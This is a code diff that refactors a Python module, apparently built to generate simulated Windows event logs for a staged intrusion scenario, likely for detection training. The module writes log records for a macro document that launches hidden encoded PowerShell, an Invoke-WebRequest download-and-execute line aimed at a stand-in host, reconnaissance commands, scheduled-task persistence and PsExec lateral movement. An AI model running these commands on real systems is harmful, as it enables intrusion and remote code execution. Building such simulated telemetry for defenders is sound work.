@@ -6,10 +6,13 @@ from base64 import b64encode
 from datetime import datetime, timedelta
 
 from demo_week.files import PROGRAMS
-from demo_week.host import Host, Process, Session
+from demo_week.host import Host
+from demo_week.logs import Process, Session
 
 _OUTSIDE, _OUTSIDE_NAME = "203.0.113.66", "files.supplies.example"
-_STAGE = f"Invoke-Expression (Invoke-WebRequest -UseBasicParsing https://{_OUTSIDE_NAME}/catalogue.txt).Content"
+_STAGE = (
+    f"Invoke-Expression (Invoke-WebRequest -UseBasicParsing https://{_OUTSIDE_NAME}/catalogue.txt).Content"
+)
 _TRACE = (
     "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4",
     "C:\\Windows\\System32\\KERNELBASE.dll+2c0fe",
@@ -32,7 +35,9 @@ def _document(at: datetime, host: Host, user: Session) -> Process:
     mail = host.known("outlook", user)
     path = f"C:\\Users\\{user.user}\\Downloads\\Offer-2026-1187.docm"
     host.write(at, mail, path)
-    word = host.start(at + timedelta(seconds=9), "word", mail, user, f'"{PROGRAMS["word"]}" /n "{path}" /o ""')
+    word = host.start(
+        at + timedelta(seconds=9), "word", mail, user, f'"{PROGRAMS["word"]}" /n "{path}" /o ""'
+    )
     host.load(at + timedelta(seconds=12), word, "vba")
     encoded = b64encode(_STAGE.encode("utf-16-le")).decode()
     line = f"powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand {encoded}"
@@ -64,7 +69,9 @@ def _look_around(at: datetime, host: Host, shell: Process) -> None:
     host.start(at, "whoami", shell, user, '"C:\\Windows\\system32\\whoami.exe" /all')
     line = 'group "Domain Admins" /domain'
     net = host.start(at + timedelta(seconds=21), "net", shell, user, f'"{PROGRAMS["net"]}" {line}')
-    host.start(at + timedelta(seconds=21, milliseconds=90), "net1", net, user, f"C:\\Windows\\system32\\net1 {line}")
+    host.start(
+        at + timedelta(seconds=21, milliseconds=90), "net1", net, user, f"C:\\Windows\\system32\\net1 {line}"
+    )
     host.ask(at + timedelta(seconds=70), shell, "srv-files.corp.example", "192.0.2.20")
 
 
@@ -74,9 +81,14 @@ def _persist(at: datetime, host: Host, shell: Process) -> None:
     host.write(at - timedelta(seconds=6), shell, "C:\\Users\\Public\\Libraries\\cache.ps1")
     line = f'"{PROGRAMS["schtasks"]}" /create /tn "{_TASK}" /sc hourly /tr "{what}"'
     host.start(at, "schtasks", shell, user, line)
-    task = f'<?xml version="1.0" encoding="UTF-16"?>\r\n<Task version="1.2"><Actions><Exec><Command>powershell.exe</Command><Arguments>{what.partition(" ")[2]}</Arguments></Exec></Actions></Task>'
+    program, _, arguments = what.partition(" ")
+    run = f"<Exec><Command>{program}</Command><Arguments>{arguments}</Arguments></Exec>"
+    task = f'<?xml version="1.0" encoding="UTF-16"?>\r\n<Task version="1.2"><Actions>{run}</Actions></Task>'
     host.security(
-        at + timedelta(milliseconds=400), 4698, user, {"TaskName": _TASK, "TaskContent": task, "ClientProcessId": "8044"}
+        at + timedelta(milliseconds=400),
+        4698,
+        user,
+        {"TaskName": _TASK, "TaskContent": task, "ClientProcessId": "8044"},
     )
     host.other(
         at + timedelta(milliseconds=450),
@@ -93,7 +105,10 @@ def _move(at: datetime, station: Host, server: Host, shell: Process) -> None:
     share = {"ObjectType": "File", "IpAddress": station.address, "IpPort": "52811"}
     files = {"ShareName": "\\\\*\\ADMIN$", "ShareLocalPath": "\\??\\C:\\Windows"}
     server.security(
-        at + timedelta(milliseconds=500), 5140, admin, {**share, **files, "AccessMask": "0x1", "AccessList": "%%4416"}
+        at + timedelta(milliseconds=500),
+        5140,
+        admin,
+        {**share, **files, "AccessMask": "0x1", "AccessList": "%%4416"},
     )
     server.security(
         at + timedelta(milliseconds=900),
@@ -107,7 +122,9 @@ def _move(at: datetime, station: Host, server: Host, shell: Process) -> None:
         at + timedelta(seconds=3), "psexesvc", server.running["services"], server.system, PROGRAMS["psexesvc"]
     )
     for number, end in enumerate(("stdin", "stdout", "stderr")):
-        server.pipe(at + timedelta(seconds=3, milliseconds=300 + number), tool, f"\\PSEXESVC-WS-17-8044-{end}")
+        server.pipe(
+            at + timedelta(seconds=3, milliseconds=300 + number), tool, f"\\PSEXESVC-WS-17-8044-{end}"
+        )
     remote = server.start(at + timedelta(seconds=4), "cmd", tool, server.system, '"cmd.exe"')
     server.start(at + timedelta(seconds=31), "whoami", remote, server.system, "whoami  /all")
     at += timedelta(minutes=11, seconds=22)
@@ -128,6 +145,8 @@ def _move(at: datetime, station: Host, server: Host, shell: Process) -> None:
 
 def _install(at: datetime, host: Host, name: str, path: str, by: Session) -> None:
     data = {"ServiceName": name, "ImagePath": path, "ServiceType": "user mode service"}
-    host.other(at, "services", 7045, data | {"StartType": "demand start", "AccountName": "LocalSystem"}, user=by.sid)
+    host.other(
+        at, "services", 7045, data | {"StartType": "demand start", "AccountName": "LocalSystem"}, user=by.sid
+    )
     key = f"HKLM\\System\\CurrentControlSet\\Services\\{name}\\ImagePath"
     host.set_value(at + timedelta(milliseconds=20), host.running["services"], key, path)
